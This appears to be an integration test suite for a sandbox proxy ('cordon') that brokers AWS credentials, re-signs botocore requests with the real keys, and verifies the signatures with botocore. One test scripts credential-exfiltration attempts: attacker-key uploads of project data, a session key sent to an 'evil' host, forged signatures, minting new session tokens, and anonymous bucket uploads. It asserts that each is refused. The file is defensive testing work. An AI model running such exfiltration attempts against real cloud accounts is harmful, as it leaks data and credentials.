/**
 * Brokered AWS keys (credentials.aws; src/network/sigv4.ts, broker.ts,
 * requests.ts, http-proxy.ts) against AWS's own SDK, botocore, as root and
 * as an unprivileged user. The command holds session keys and signs with
 * them; cordon's proxy signs each request again with the real keys. Whether
 * a signature is good is decided by botocore on the host, from what the
 * world's server recorded (its body's hash included), with the real secret:
 * never by cordon's code. Requests made with other keys, a session key sent
 * elsewhere, and the request shapes cordon cannot sign again are refused
 * and reach no server.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { netRunner, netWorld, RUNNERS } from '../../helpers/net-run.js';
import { worldSkipReason, type World, type WorldRecord } from '../../world/world.js';

/** The python3 interpreters that can import botocore, Debian's first (apt-get install python3-botocore), and PATH's if it is another (a newer botocore). */
const PYTHONS = [...new Set(['/usr/bin/python3', 'python3'].map((exe) => spawnSync(exe, ['-c', 'import sys, botocore; print(sys.executable)'], { encoding: 'utf8', cwd: '/var/tmp' })).filter((r) => r.status === 0).map((r) => r.stdout.trim()))];
const PY = PYTHONS[0];
const skip = worldSkipReason() ?? (PY ? false : 'botocore is not importable by /usr/bin/python3 or python3 (apt-get install python3-botocore)');
const T = { timeout: 90_000 };

/** The real keys, in cordon's environment only (shaped like AWS's: temporary keys with a session token). */
const REAL = { id: 'ASIAREALKEY000000001', secret: 'realSecretAccessKey0000000000000000000001', token: `FwoGZXIvYXdzEREALSESSIONTOKEN${'x'.repeat(300)}` };

/**
 * botocore's verdict on each recorded request signed as AWS signs them: the
 * signature recomputed by botocore's own signer (SigV4Auth, S3SigV4Auth for
 * s3) with `secret`, over the method, path, signed headers, X-Amz-Date and
 * payload hash (the request's x-amz-content-sha256, else its body's hash).
 */
function botocoreVerdicts(records: readonly WorldRecord[], secret: string): { ok: boolean; id: string; service: string }[] {
  const script = [
    'import json, sys',
    'from botocore.auth import SigV4Auth, S3SigV4Auth',
    'from botocore.awsrequest import AWSRequest',
    'from botocore.credentials import Credentials',
    'out = []',
    'for r in json.load(sys.stdin):',
    '    auth = r["headers"]["authorization"]',
    '    cred = auth.split("Credential=")[1].split(",")[0].split("/")',
    '    signed = auth.split("SignedHeaders=")[1].split(",")[0].split(";")',
    '    req = AWSRequest(method=r["method"], url="https://" + r["headers"]["host"] + r["path"], headers={h: r["headers"][h] for h in signed})',
    '    req.context["timestamp"] = r["headers"]["x-amz-date"]',
    '    a = (S3SigV4Auth if cred[3] == "s3" else SigV4Auth)(Credentials(cred[0], r["secret"]), cred[3], cred[2])',
    '    a.payload = lambda request, h=r["headers"].get("x-amz-content-sha256", r["bodySha256"]): h',
    '    sig = a.signature(a.string_to_sign(req, a.canonical_request(req)), req)',
    '    out.append({"ok": sig == auth.split("Signature=")[1].strip(), "id": cred[0], "service": cred[3]})',
    'print(json.dumps(out))',
  ].join('\n');
  const r = spawnSync(PY!, ['-c', script], { input: JSON.stringify(records.map((x) => ({ method: x.method, path: x.path, headers: x.headers, bodySha256: x.bodySha256, secret }))), encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return JSON.parse(r.stdout) as { ok: boolean; id: string; service: string }[];
}

describe('brokered AWS keys, signed again at the proxy', { skip }, () => {
  let w: World;
  let root: string;
  netWorld('cordon-aws-', (world, dir) => { w = world; root = dir; });
  const signedRequests = async (host: string, pred: (r: WorldRecord) => boolean = () => true) => { await w.settle(); return w.records(w.host(host)).filter((x) => x.event === 'request' && x.headers?.['x-amz-date'] !== undefined && pred(x)); };
  /** botocore, inside: a client for `service` at the api host, path-style for S3. */
  const client = (service: string, extra = '') => `botocore.session.get_session().create_client("${service}", region_name="us-east-1", endpoint_url="https://${w.host('api').fqdn}", config=Config(s3={"addressing_style": "path"}${extra}))`;
  const prelude = ['import botocore.session, os, sys', 'from botocore.config import Config'];

  for (const runner of RUNNERS) {
    const run = netRunner(() => w, () => root, runner);
    // An interpreter under /root is not the unprivileged user's to run.
    const pythons = PYTHONS.filter((exe) => !runner.as || !exe.startsWith('/root/'));
    /** Runs client.py (`py` after the prelude) under cordon with the real keys in its environment; `env` adds to them ('' leaves one out). */
    const cordon = (py: string, opts: { aws?: object; env?: Record<string, string>; python?: string } = {}) => {
      const api = w.host('api').fqdn;
      return run({
        network: { allowedDomains: [api, w.host('evil').fqdn], tlsTerminate: { extraCaCertPaths: [w.caCert] } },
        credentials: { aws: [{ hosts: [api], ...opts.aws }] },
      }, `${opts.python ?? pythons[0]} client.py`, { files: { 'client.py': [...prelude, py].join('\n') }, env: Object.fromEntries(Object.entries({ AWS_ACCESS_KEY_ID: REAL.id, AWS_SECRET_ACCESS_KEY: REAL.secret, AWS_SESSION_TOKEN: REAL.token, ...opts.env }).filter(([, v]) => v !== '')) });
    };

    describe(`as ${runner.who}`, () => {
      for (const python of pythons) it(`botocore (${python}) works unchanged with the session keys (STS, its body hashed; S3 put and get); AWS gets requests signed with the real keys, which botocore verifies`, T, async () => {
        w.clearRecords();
        const r = await cordon([
          'e = os.environ',
          'print("inside", e["AWS_ACCESS_KEY_ID"][:4], len(e["AWS_ACCESS_KEY_ID"]), e["AWS_ACCESS_KEY_ID"] == "' + REAL.id + '", e["AWS_SECRET_ACCESS_KEY"] == "' + REAL.secret + '", e["AWS_SESSION_TOKEN"] == "' + REAL.token + '")',
          'def readable(p):',
          '    try:',
          '        return open(p, "rb").read()',
          '    except OSError:',
          '        return b""',
          'print("real in environ", any(b"REALKEY" in readable(p) for p in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline")))',
          `ident = ${client('sts')}.get_caller_identity()`,
          'print("sts", ident["Account"], ident["UserId"] == e["AWS_ACCESS_KEY_ID"])',
          `s3 = ${client('s3')}`,
          's3.put_object(Bucket="bkt", Key="dir/a b+c.txt", Body=b"project data")',
          'body = s3.get_object(Bucket="bkt", Key="dir/a b+c.txt")["Body"].read().decode()',
          'print("s3", body.strip() == "object signed by " + e["AWS_ACCESS_KEY_ID"])',
        ].join('\n'), { python });
        assert.equal(r.stdout, 'inside ASIA 20 False False False\nreal in environ False\nsts 123456789012 True\ns3 True\n', r.stderr);
        const reqs = await signedRequests('api');
        assert.deepEqual(reqs.map((x) => x.method), ['POST', 'PUT', 'GET']);
        assert.deepEqual(botocoreVerdicts(reqs, REAL.secret), [{ ok: true, id: REAL.id, service: 'sts' }, { ok: true, id: REAL.id, service: 's3' }, { ok: true, id: REAL.id, service: 's3' }]);
        assert.ok(reqs.every((x) => x.headers?.['x-amz-security-token'] === REAL.token), 'the real session token went with each');
        const allowed = r.events.filter((e) => e.type === 'net.allowed' && e.via === 'https');
        assert.ok(allowed.length >= 3 && allowed.every((e) => e.credentials?.includes('AWS_ACCESS_KEY_ID')), r.log);
        assert.ok(!r.log.includes('REALKEY') && !r.log.includes(REAL.secret), 'no event carries a real value');
      });

      it('a set that lists its services (credentials.aws[].services) signs for those only: S3 works, STS is refused and reaches no server', T, async () => {
        w.clearRecords();
        const r = await cordon([
          `s3 = ${client('s3')}`,
          's3.put_object(Bucket="bkt", Key="k", Body=b"x")',
          'print("s3 ok")',
          'try:',
          `    ${client('sts')}.get_caller_identity()`,
          '    print("sts signed")',
          'except Exception as e:',
          '    print("sts refused")',
        ].join('\n'), { aws: { services: ['s3'] } });
        assert.equal(r.stdout, 's3 ok\nsts refused\n', r.stderr);
        assert.deepEqual(botocoreVerdicts(await signedRequests('api'), REAL.secret).map((v) => v.service), ['s3'], 'only the S3 request reached the host');
        assert.ok(r.events.some((e) => e.type === 'request.refused' && e.reason === 'aws-not-resigned'), r.log);
      });

      it('keys printed by a program (credential_process JSON), without a session token: signed with them', T, async () => {
        w.clearRecords();
        const r = await cordon([
          'print("token" in " ".join(os.environ), os.environ.get("AWS_SESSION_TOKEN"))',
          `print(${client('sts')}.get_caller_identity()["Account"])`,
        ].join('\n'), {
          aws: { from: { command: ['/bin/sh', '-c', `printf '{"Version": 1, "AccessKeyId": "AKIAPRINTEDKEY000001", "SecretAccessKey": "printedSecret000000000000000000000000001"}'`] } },
          env: { AWS_SESSION_TOKEN: '' },
        });
        assert.equal(r.stdout, 'False None\n123456789012\n', r.stderr);
        const reqs = await signedRequests('api');
        assert.deepEqual(botocoreVerdicts(reqs, 'printedSecret000000000000000000000000001'), [{ ok: true, id: 'AKIAPRINTEDKEY000001', service: 'sts' }]);
        assert.equal(reqs[0]!.headers?.['x-amz-security-token'], undefined);
      });

      it('keys cordon cannot use stop it before anything runs: a program that prints no credential_process JSON (its output not shown), an access key id without its secret', T, async () => {
        const noJson = await cordon('print("ran")', { aws: { from: { command: ['/bin/sh', '-c', 'echo ASIALEAKEDINOUTPUT00 secretleakedinoutput'] } } });
        assert.notEqual(noJson.status, 0);
        assert.equal(noJson.stdout, '');
        assert.match(noJson.stderr, /credentials\.aws\[0\]\.from\.command: \/bin\/sh did not print AWS keys as credential_process does/);
        assert.doesNotMatch(noJson.stderr, /LEAKED|leaked/i);
        const half = await cordon('print("ran")', { env: { AWS_SECRET_ACCESS_KEY: '' } });
        assert.notEqual(half.status, 0);
        assert.equal(half.stdout, '');
        assert.match(half.stderr, /credentials\.aws\[0\]: the access key id is set but its secret access key \(from \$AWS_SECRET_ACCESS_KEY\) is not/);
      });

      it('the approved-domain attack with AWS: other keys, a session key elsewhere, unsigned uploads, minting new credentials, and requests cordon cannot sign again are refused and reach no server', T, async () => {
        w.clearRecords();
        const evil = w.host('evil').fqdn;
        const r = await cordon([
          // What botocore made of the answer: cordon's refusal is text, which it cannot parse as AWS's XML (the error quotes it).
          'def code(f):',
          '    try:',
          '        f()',
          '        return "sent"',
          '    except Exception as x:',
          '        return getattr(x, "response", {}).get("ResponseMetadata", {}).get("HTTPStatusCode") or (403 if "refused" in str(x) else repr(x)[:200])',
          'import urllib.request, ssl',
          'def get(url, headers):',
          '    try:',
          '        return urllib.request.urlopen(urllib.request.Request(url, headers=headers)).status',
          '    except urllib.error.HTTPError as x:',
          '        return x.code',
          'attacker = botocore.session.get_session()',
          'attacker.set_credentials("AKIAATTACKERKEY00001", "attackerSecret00000000000000000000000001")',
          `out = [code(lambda: (attacker.create_client("s3", region_name="us-east-1", endpoint_url="https://${w.host('api').fqdn}", config=Config(s3={"addressing_style": "path"}))).put_object(Bucket="b", Key="k", Body=b"project data"))]`,
          `out.append(code(lambda: (botocore.session.get_session().create_client("sts", region_name="us-east-1", endpoint_url="https://${evil}")).get_caller_identity()))`,
          `s3 = ${client('s3')}`,
          'out.append(get(s3.generate_presigned_url("get_object", Params={"Bucket": "b", "Key": "k"}), {}))',
          `out.append(get("https://${w.host('api').fqdn}/b/k", {"x-api-key": os.environ["AWS_SECRET_ACCESS_KEY"]}))`,
          `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-HMAC-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64, "x-amz-date": "20250101T000000Z", "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}))`,
          `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-HMAC-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64, "x-amz-date": "20250101T000000Z", "x-amz-content-sha256": "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"}))`,
          `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-ECDSA-P256-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/s3/aws4_request, SignedHeaders=host, Signature=00", "x-amz-date": "20250101T000000Z"}))`,
          // Credentials minted with the real keys would come back working (sts:GetSessionToken needs no permission).
          `out.append(code(lambda: ${client('sts')}.get_session_token()))`,
          // Unsigned: an anonymous upload to a bucket anyone may write, an S3 browser-form POST with someone else's policy.
          'def send(url, headers, data, method):',
          '    try:',
          '        return urllib.request.urlopen(urllib.request.Request(url, data=data, headers=headers, method=method)).status',
          '    except urllib.error.HTTPError as x:',
          '        return x.code',
          `out.append(send("https://${w.host('api').fqdn}/public-bucket/k", {}, b"project data", "PUT"))`,
          `out.append(send("https://${w.host('api').fqdn}/", {"Content-Type": "multipart/form-data; boundary=b"}, b'--b\\r\\nContent-Disposition: form-data; name="x-amz-credential"\\r\\n\\r\\nAKIAATTACKERKEY00001/20250101/us-east-1/s3/aws4_request\\r\\n--b\\r\\nContent-Disposition: form-data; name="file"\\r\\n\\r\\nproject data\\r\\n--b--\\r\\n', "POST"))`,
          'print(out)',
        ].join('\n'));
        assert.equal(r.stdout, '[403, 403, 403, 403, 403, 403, 403, 403, 403, 403]\n', r.stderr);
        assert.deepEqual(await signedRequests('api'), [], 'the api server received nothing signed');
        assert.deepEqual(w.records(w.host('evil')).filter((x) => x.event === 'request'), []);
        const reasons = r.events.filter((e) => e.type === 'request.refused').map((e) => e.reason);
        assert.deepEqual(reasons, ['foreign-credential', 'credential-to-unbound-host', 'aws-not-resigned', 'foreign-credential', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned'], r.log);
      });
    });
  }
});
